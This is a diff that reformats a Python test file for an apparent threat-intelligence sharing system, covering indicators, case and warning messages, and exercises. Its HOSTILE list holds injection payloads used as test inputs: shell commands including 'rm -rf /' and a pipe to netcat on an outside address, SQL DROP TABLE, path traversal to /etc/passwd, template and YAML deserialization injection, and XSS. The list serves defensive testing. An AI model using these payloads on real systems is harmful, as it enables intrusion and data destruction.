@@ -73,16 +73,26 @@ class Node:
             shipped_text(), "shipped", own_domains=(OWN_DOMAIN,), own_networks=HOMES, centre=(CENTRE_NAME,)
         )
         self.protect = Protect(
-            ledger=ledger, clock=self.clock, policy=protect or ProtectPolicy(), never=never,
-            hands=Hands((self.list, self.zone), ()), homes=HOMES,
+            ledger=ledger,
+            clock=self.clock,
+            policy=protect or ProtectPolicy(),
+            never=never,
+            hands=Hands((self.list, self.zone), ()),
+            homes=HOMES,
             history=History(self.store.window, hunt) if self.store else None,
-        )  # fmt: skip
+        )
         self.suspects = [suspicion((Observable.of("domain", "only-here.net"),), 1e-4, "10.1.2.3", NOW_US)]
         self.door = Door(
-            name="north", ledger=ledger, clock=self.clock, dice=SeededDice(3, "north"),
-            keys=Keys(own=self.key, centre=self.centre.public_key(), secret=b"s" * 32), policy=door or DoorPolicy(),
-            homes=HOMES, identifiers=GroupKeyIdentifiers(bytes(range(32))), suspicions=lambda: self.suspects,
-        )  # fmt: skip
+            name="north",
+            ledger=ledger,
+            clock=self.clock,
+            dice=SeededDice(3, "north"),
+            keys=Keys(own=self.key, centre=self.centre.public_key(), secret=b"s" * 32),
+            policy=door or DoorPolicy(),
+            homes=HOMES,
+            identifiers=GroupKeyIdentifiers(bytes(range(32))),
+            suspicions=lambda: self.suspects,
+        )
         health = Condition(
             version="1", sensor="up", capture_loss_permille=0, clock_skew_s=0, queue_messages=0, last_round=None
         )
@@ -124,12 +134,19 @@ class Node:
 def bundle(observable, version=NOW_US, **other):
     made = Indicator(
         **{
-            "id": indicator_id(observable), "version": version, "observable": observable, "tlp": Tlp.AMBER,
-            "pap": Pap.CLEAR, "confidence": 100, "valid_from_us": NOW_US, "valid_until_us": NOW_US + 30 * DAY_US,
-            "case_id": "case-00000000000000aa", "technique": "T1071",
+            "id": indicator_id(observable),
+            "version": version,
+            "observable": observable,
+            "tlp": Tlp.AMBER,
+            "pap": Pap.CLEAR,
+            "confidence": 100,
+            "valid_from_us": NOW_US,
+            "valid_until_us": NOW_US + 30 * DAY_US,
+            "case_id": "case-00000000000000aa",
+            "technique": "T1071",
         }
         | other
-    )  # fmt: skip
+    )
     return bundle_of(made, created_by=AUTHOR, created_us=min(version, NOW_US))
 
 
@@ -138,11 +155,22 @@ def release(name, **other):
 
 
 HOSTILE = [
-    "$(touch /tmp/owned)", "`id`", "; rm -rf /", "| nc 198.51.100.9 1", "{{ 7*7 }}", "{0.__class__}", "%n%n%s",
-    "' OR 1=1; DROP TABLE protect_item; --", "../../../../etc/passwd", "\x00", "__import__('os').system('id')",
-    "copy (select 1) to 'x'", "!!python/object/apply:os.system [id]", "\n@ IN A 203.0.113.9\n",
+    "$(touch /tmp/owned)",
+    "`id`",
+    "; rm -rf /",
+    "| nc 198.51.100.9 1",
+    "{{ 7*7 }}",
+    "{0.__class__}",
+    "%n%n%s",
+    "' OR 1=1; DROP TABLE protect_item; --",
+    "../../../../etc/passwd",
+    "\x00",
+    "__import__('os').system('id')",
+    "copy (select 1) to 'x'",
+    "!!python/object/apply:os.system [id]",
+    "\n@ IN A 203.0.113.9\n",
     "<script>alert(1)</script>",
-]  # fmt: skip
+]
 
 
 def every_kind(text):
@@ -155,9 +183,18 @@ def every_kind(text):
     )
     round_id = "ab" * 16
     yield messages.RoundOpened(
-        round_id=round_id, version=1, epoch=NOW_US // DAY_US, registry_version=1, tier="B", t=3, m=50, r=10,
-        forms=forms(), deadline_us=NOW_US + 10 * MINUTE_US, members=member,
-    )  # fmt: skip
+        round_id=round_id,
+        version=1,
+        epoch=NOW_US // DAY_US,
+        registry_version=1,
+        tier="B",
+        t=3,
+        m=50,
+        r=10,
+        forms=forms(),
+        deadline_us=NOW_US + 10 * MINUTE_US,
+        members=member,
+    )
     cells = tuple(messages.AskedCell(table=t, bin=b) for t in range(3) for b in range(20))
     yield messages.ReceiptsAsked(round_id=round_id, cells=cells)
     others = (messages.OtherTag(x=2, tag="0" * 32), messages.OtherTag(x=3, tag="1" * 32))
@@ -169,33 +206,73 @@ def every_kind(text):
     yield messages.IndicatorWithdrawn(indicator_id=f"indicator--{uuid.UUID(int=9, version=4)}", version=1)
     yield messages.SectorSwitched(number=1, state="off", at_us=0, by="Anna Berg", why=why)
     yield messages.QuestionAsked(
-        question_id="0d" * 16, observables=(messages.AskedObservable(type="domain", value=why[:200]),),
-        since_hour=0, asked_us=NOW_US, until_us=NOW_US + DAY_US, asked_by="Anna Berg", approved_by="Bo Lund", why=why,
-    )  # fmt: skip
-    yield messages.CasePart(
-        case_id="case-00000000000000aa", version=1, state="triage", techniques=(), tlp="TLP:AMBER", pap=2, clocks=(),
-        own=(messages.AskedObservable(type="domain", value=why),),
-        tasks=(messages.PartTask(
-            task_id="0e" * 16, kind="task", text=why, state="open", acknowledge_us=NOW_US, applies_us=NOW_US,
-            done_us=NOW_US,
-        ),),
-        words=(messages.PartWords(at_us=NOW_US, by="centre", text=why),),
-    )  # fmt: skip
-    yield messages.VerdictGiven(
-        case_id="case-00000000000000aa", version=1, judged="malicious", until_us=NOW_US + DAY_US,
-        observables=(messages.AskedObservable(type="domain", value=why),),
-    )  # fmt: skip
-    yield messages.WarningGiven(
-        warning_id="warning-00000000000000aa", version=1, state="sent", urgency="critical", title_en=why[:120],
-        title_da=why[:120], text_en=why, text_da=why, tlp="TLP:AMBER", pap=2, sent_us=NOW_US,
-        observables=(messages.AskedObservable(type="domain", value=why),), acknowledge_us=NOW_US + DAY_US,
+        question_id="0d" * 16,
+        observables=(messages.AskedObservable(type="domain", value=why[:200]),),
+        since_hour=0,
+        asked_us=NOW_US,
         until_us=NOW_US + DAY_US,
-    )  # fmt: skip
+        asked_by="Anna Berg",
+        approved_by="Bo Lund",
+        why=why,
+    )
+    yield messages.CasePart(
+        case_id="case-00000000000000aa",
+        version=1,
+        state="triage",
+        techniques=(),
+        tlp="TLP:AMBER",
+        pap=2,
+        clocks=(),
+        own=(messages.AskedObservable(type="domain", value=why),),
+        tasks=(
+            messages.PartTask(
+                task_id="0e" * 16,
+                kind="task",
+                text=why,
+                state="open",
+                acknowledge_us=NOW_US,
+                applies_us=NOW_US,
+                done_us=NOW_US,
+            ),
+        ),
+        words=(messages.PartWords(at_us=NOW_US, by="centre", text=why),),
+    )
+    yield messages.VerdictGiven(
+        case_id="case-00000000000000aa",
+        version=1,
+        judged="malicious",
+        until_us=NOW_US + DAY_US,
+        observables=(messages.AskedObservable(type="domain", value=why),),
+    )
+    yield messages.WarningGiven(
+        warning_id="warning-00000000000000aa",
+        version=1,
+        state="sent",
+        urgency="critical",
+        title_en=why[:120],
+        title_da=why[:120],
+        text_en=why,
+        text_da=why,
+        tlp="TLP:AMBER",
+        pap=2,
+        sent_us=NOW_US,
+        observables=(messages.AskedObservable(type="domain", value=why),),
+        acknowledge_us=NOW_US + DAY_US,
+        until_us=NOW_US + DAY_US,
+    )
     for element in ("evil.com", "bavn-exercise-00000000000000aa.example"):
         yield ExerciseTold(
-            exercise_id="exercise-00000000000000aa", version=1, state="running", title_en=why[:120], title_da=why[:120],
-            objectives=(Objective(en=why[:300], da=why[:300]),), campaign="beacon", element=element, after_minutes=0,
-            begins_us=NOW_US, ends_us=NOW_US + DAY_US,
-        )  # fmt: skip
+            exercise_id="exercise-00000000000000aa",
+            version=1,
+            state="running",
+            title_en=why[:120],
+            title_da=why[:120],
+            objectives=(Objective(en=why[:300], da=why[:300]),),
+            campaign="beacon",
+            element=element,
+            after_minutes=0,
+            begins_us=NOW_US,
+            ends_us=NOW_US + DAY_US,
+        )
     yield CanaryAnswered(day=NOW_US // DAY_US, run=1)
     yield messages.RoundClosed(round_id=round_id)
